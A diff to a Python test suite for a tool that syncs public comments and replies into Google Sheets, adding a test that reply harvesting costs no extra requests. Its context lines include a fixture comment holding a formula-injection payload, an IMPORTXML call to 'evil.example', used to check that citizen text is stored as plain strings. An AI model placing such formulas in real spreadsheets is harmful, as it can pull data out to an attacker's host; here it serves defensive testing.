@@ -91,6 +91,21 @@ def test_answering_costs_a_row_not_a_tab_rewrite(google, roster_file, tmp_path):
     assert len(records(google.values("Solid Waste Management"))) == 399
 
 
+def test_carrying_a_reply_from_a_tab_costs_no_extra_request(google, roster_file, tmp_path):
+    """The check that no row moved under the write (the owner's sort) rides on the
+    write's own reply: the key columns as they stand after it."""
+    folder = export_of(tmp_path / "a", 30)
+    sync(google, folder, roster_file)
+    first = records(google.values("Solid Waste Management"))[0]["Comment ID"]
+    google.type_in("Solid Waste Management", "Comment ID", first, "Reply", "उत्तर दिले 🙏")
+    google.server.clear_requests()
+    result = sync(google, folder, roster_file)
+    assert result.summary()["replies_harvested"] == 1
+    assert [r["method"] for r in google.server.requests] == ["GET", "POST", "GET", "POST"]
+    master = {r["Comment ID"]: r for r in records(google.values("Comments"))}
+    assert master[first]["Reply"] == "उत्तर दिले 🙏"
+
+
 def test_citizen_text_is_written_as_strings_never_formulas(google, roster_file, tmp_path):
     folder = write_export(tmp_path / "e", [post("P1")], [
         comment("C1", "P1", "=IMPORTXML(\"http://evil.example\",\"//a\")"),
